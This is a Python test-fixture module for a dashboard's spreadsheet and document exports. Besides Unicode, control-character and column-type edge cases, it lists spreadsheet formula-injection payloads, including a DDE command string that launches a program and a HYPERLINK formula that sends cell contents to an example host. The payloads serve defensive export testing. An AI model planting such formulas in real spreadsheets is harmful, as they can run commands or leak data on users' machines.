"""Payloads that exports must survive: formula-like texts, unusual characters, and a table with every kind of column."""

from datetime import date, datetime
from typing import Any

import pandas as pd

from dashboard.documents.context import Context, Definition

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"点击")',
    "+8613800000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|'/c calc'!A0",
)

SNEAKY_FORMULAS = ("\r=1", "\n=1", " =1", "\u3000=1", "\ufeff=1", "\u200b=1", "＝1+1", "＋1", "－1", "＠A1")

NAUGHTY = (
    "工会🏭🧑‍🏭👍🏽",
    "𠮷野家𰻝面",  # Chinese beyond the basic plane
    "\u202eabc اتحاد العمال",
    "line one\r\nline two\rline three\nline four",
    'quotes "inside", commas, and ; semicolons',
    "_x0041_ looks like an escape",
    "http://example.org/a?b=c",
    "9152000000000000001",
    "00012",
    "1E5",
    "TRUE",
    "NULL",
    "'already",
    "<b>&amp;</b>",
)

CONTROLS = "before\x00\x07\x0b\x1b\ufffeafter"
LONG = "长" * 39_999 + "末"


def context(**changes: Any) -> Context:
    """A context of the Guizhou campaign in Chinese."""
    fields: dict[str, Any] = {
        "title": "指标表",
        "register": "贵州省直",
        "version": "v0003",
        "as_of": date(2014, 4, 30),
        "filters": (("单位性质", "机关、企业"),),
        "synthetic": False,
        "made_at": datetime(2026, 1, 2, 3, 4, 5),
        "program_version": "0.1.0",
        "language": "zh",
        "definitions": (Definition("按期换届率", "未超过届满日即为达标。", "工会法第十六条", "限期换届。"),),
    }
    return Context(**(fields | changes))


def every_kind() -> pd.DataFrame:
    """A column of every kind that an answer has, each with an empty cell."""
    return pd.DataFrame(
        {
            "单位编号": pd.Series(["00123", None, "915200000000000001"], dtype="str"),
            "逾期天数": pd.array([3, None, -12], dtype="Int64"),
            "比率": [66.66666666666667, None, -2.5],
            "到期日期": pd.to_datetime(["2014-06-01", None, "2024-02-29"]),
            "资料截至": pd.Series([date(2014, 4, 30), None, date(1899, 1, 1)], dtype=object),
            "是": pd.array([True, None, False], dtype="boolean"),
            "指标值": pd.Series([7, None, 12.25], dtype=object),
        }
    )


KINDS = [
    ("00123", 3, 66.66666666666667, date(2014, 6, 1), date(2014, 4, 30), True, 7),
    (None, None, None, None, None, None, None),
    ("915200000000000001", -12, -2.5, date(2024, 2, 29), date(1899, 1, 1), False, 12.25),
]
"""The cells of ``every_kind``, row by row."""


def texts(*values: str) -> pd.DataFrame:
    """One column of texts called 名称, and a number beside each."""
    return pd.DataFrame({"名称": pd.Series(values, dtype="str"), "序号": range(len(values))})
